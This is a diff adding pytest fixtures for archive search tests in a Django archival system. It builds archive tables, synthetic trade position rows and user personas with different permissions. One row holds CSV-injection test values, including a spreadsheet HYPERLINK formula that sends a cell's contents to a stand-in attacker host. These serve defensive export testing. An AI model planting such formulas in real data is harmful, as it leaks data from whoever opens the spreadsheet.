@@ -1,0 +1,202 @@
+"""Archive data and personas for the archive search tests (issue 7).
+
+Personas: a reader (``view_archive_search``), an auditor (view and
+``export_archive_search``), an outsider (signed in, neither permission).
+
+The archive tables are created here directly, laid out as the engine lays them
+out (namespace ``namespace_for(source)``, the source's columns plus
+archived_at, archive_run_id, reference_date, retention_until, a unique key on
+the source primary key, indexes on reference_date, retention_until and the
+contract column). They are committed once per session so that the
+``archive_readonly`` connection (a different connection) sees them.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+from decimal import Decimal
+
+import pytest
+from django.contrib.auth.models import Permission, User
+from django.contrib.contenttypes.models import ContentType
+from django.db import connections, transaction
+
+from archival.backends import backend_for
+from archival.backends.sqlite import namespace_for
+from governance.models import TableConfig
+
+PASSWORD = "correct horse battery staple 42"
+SOURCE = "SourceDB1"
+OTHER_SOURCE = "SourceDB2"
+POSITIONS = 600
+CONTRACTS = 30
+ARCHIVED_AT = dt.datetime(2024, 6, 1, 10, 0, 0)
+# Text cells a spreadsheet would run as formulas (CSV injection).
+FORMULA_BOOK = '=HYPERLINK("http://evil.example/?leak="&A1)'
+FORMULA_TRADER = "@SUM(A1:A9)"
+
+
+def source_schema(alias: str) -> str:
+    return "main" if connections[alias].vendor == "sqlite" else alias.lower()
+
+
+def maturity(contract_id: int) -> dt.date:
+    return dt.date(2016, 1, 1) + dt.timedelta(days=10 * contract_id)
+
+
+def plus_years(day: dt.date, years: int) -> dt.date:
+    try:
+        return day.replace(year=day.year + years)
+    except ValueError:  # 29 February
+        return day.replace(year=day.year + years, day=28)
+
+
+def position_rows() -> list[tuple]:
+    """(basketId, positionId, businessDate, contractId, quantity, price, currency, book, trader, metadata...)."""
+    rows = []
+    for i in range(POSITIONS):
+        basket, position = divmod(i, 200)
+        contract = i % CONTRACTS + 1
+        business = dt.date(2015, 1, 1) + dt.timedelta(days=i % 365)
+        book = f"BOOK{i % 7:02d}"
+        trader = f"T{i % 11:03d}"
+        if i == 5:
+            book, trader = FORMULA_BOOK, FORMULA_TRADER
+        reference = maturity(contract)
+        rows.append(
+            (
+                basket,
+                position,
+                business,
+                contract,
+                Decimal(f"{(i - 300) * 1.5:.4f}"),
+                Decimal(f"{10 + i % 50}.250000"),
+                ["EUR", "USD", "GBP"][i % 3],
+                book,
+                trader,
+                ARCHIVED_AT,
+                1 if i < 400 else 2,
+                reference,
+                plus_years(reference, 10),
+            )
+        )
+    return rows
+
+
+def _ddl(vendor: str) -> dict[str, str]:
+    return {"ts": "DATETIME" if vendor == "sqlite" else "TIMESTAMP", "tstz": "DATETIME" if vendor == "sqlite" else "TIMESTAMPTZ"}
+
+
+POSITION_SOURCE_COLUMNS = (
+    '"basketId" INTEGER NOT NULL, "positionId" INTEGER NOT NULL, "businessDate" DATE NOT NULL, '
+    '"contractId" INTEGER, "quantity" NUMERIC(18,4), "price" NUMERIC(18,6), "currency" CHAR(3), '
+    '"book" VARCHAR(60), "trader" VARCHAR(40)'
+)
+
+
+def build_search_archive() -> None:
+    """Source tables (for config validation) and committed archive tables with rows."""
+    schema = source_schema(SOURCE)
+    src = backend_for(SOURCE)
+    with transaction.atomic(using=SOURCE), connections[SOURCE].cursor() as cur:
+        if src.vendor == "postgresql":
+            cur.execute(f"CREATE SCHEMA IF NOT EXISTS {src.quote(schema)}")
+        for table in ("Position", "Contract"):
+            cur.execute(f"DROP TABLE IF EXISTS {src.qualified(schema, table)}")
+        cur.execute(
+            f'CREATE TABLE {src.qualified(schema, "Contract")} ("contractId" INTEGER NOT NULL PRIMARY KEY, "maturityDate" DATE)'
+        )
+        cur.execute(
+            f"CREATE TABLE {src.qualified(schema, 'Position')} ({POSITION_SOURCE_COLUMNS}, "
+            'PRIMARY KEY ("basketId", "positionId", "businessDate"))'
+        )
+        cur.executemany(
+            f"INSERT INTO {src.qualified(schema, 'Contract')} VALUES (%s, %s)",
+            [(c, maturity(c)) for c in range(1, CONTRACTS + 1)],
+        )
+    arc = backend_for("archive")
+    ns = namespace_for(SOURCE)
+    t = _ddl(arc.vendor)
+    table = arc.qualified(ns, "Position")
+    with transaction.atomic(using="archive"), connections["archive"].cursor() as cur:
+        if arc.vendor == "postgresql":
+            cur.execute(f"CREATE SCHEMA IF NOT EXISTS {arc.quote(ns)}")
+        cur.execute(f"DROP TABLE IF EXISTS {table}")
+        cur.execute(
+            f"CREATE TABLE {table} ({POSITION_SOURCE_COLUMNS}, "
+            f'"archived_at" {t["tstz"]} NOT NULL, "archive_run_id" BIGINT NOT NULL, '
+            '"reference_date" DATE NULL, "retention_until" DATE NULL, '
+            'CONSTRAINT "Position_src_key" UNIQUE ("basketId", "positionId", "businessDate"))'
+        )
+        for suffix, column in (("refdate", "reference_date"), ("retention", "retention_until"), ("contract", "contractId")):
+            if arc.vendor == "sqlite":
+                cur.execute(f'CREATE INDEX {arc.quote(ns)}."Position_{suffix}" ON "Position" ({arc.quote(column)})')
+            else:
+                cur.execute(f'CREATE INDEX "Position_{suffix}" ON {table} ({arc.quote(column)})')
+        cur.executemany(f"INSERT INTO {table} VALUES ({', '.join(['%s'] * 13)})", position_rows())
+    if arc.vendor == "postgresql":
+        from archival.search.readonly import create_readonly_role
+
+        create_readonly_role(role=connections["archive_readonly"].settings_dict["USER"], using="archive")
+    # The read-only connection ATTACHes namespace files when it opens: reopen it.
+    connections["archive_readonly"].close()
+
+
+@pytest.fixture(scope="session")
+def search_archive(django_db_setup, django_db_blocker):
+    with django_db_blocker.unblock():
+        build_search_archive()
+    yield
+
+
+def permission(codename: str) -> Permission:
+    """The governance permission (made by the roles migration; created here if absent)."""
+    perm = Permission.objects.filter(content_type__app_label="governance", codename=codename).first()
+    if perm is None:
+        perm = Permission.objects.create(
+            codename=codename, name=codename.replace("_", " "), content_type=ContentType.objects.get_for_model(TableConfig)
+        )
+    return perm
+
+
+def make_persona(name: str, *codenames: str) -> User:
+    user = User.objects.create_user(name, f"{name}@example.com", PASSWORD)
+    user.user_permissions.add(*[permission(c) for c in codenames])
+    return User.objects.get(pk=user.pk)  # fresh: no cached permissions
+
+
+@pytest.fixture
+def reader(db) -> User:
+    return make_persona("reader", "view_archive_search")
+
+
+@pytest.fixture
+def auditor(db) -> User:
+    return make_persona("auditor", "view_archive_search", "export_archive_search")
+
+
+@pytest.fixture
+def outsider(db) -> User:
+    return make_persona("outsider")
+
+
+def make_position_config() -> TableConfig:
+    config = TableConfig(
+        source_db=SOURCE,
+        schema_name=source_schema(SOURCE),
+        table_name="Position",
+        archival_logic="CONTRACT_MATURITY",
+        contract_table="Contract",
+        contract_key_column="contractId",
+        contract_reference_column="contractId",
+        contract_maturity_column="maturityDate",
+        hold_contract_column="contractId",
+    )
+    config.full_clean()
+    config.save()
+    return config
+
+
+@pytest.fixture
+def position_config(search_archive, db) -> TableConfig:
+    return make_position_config()
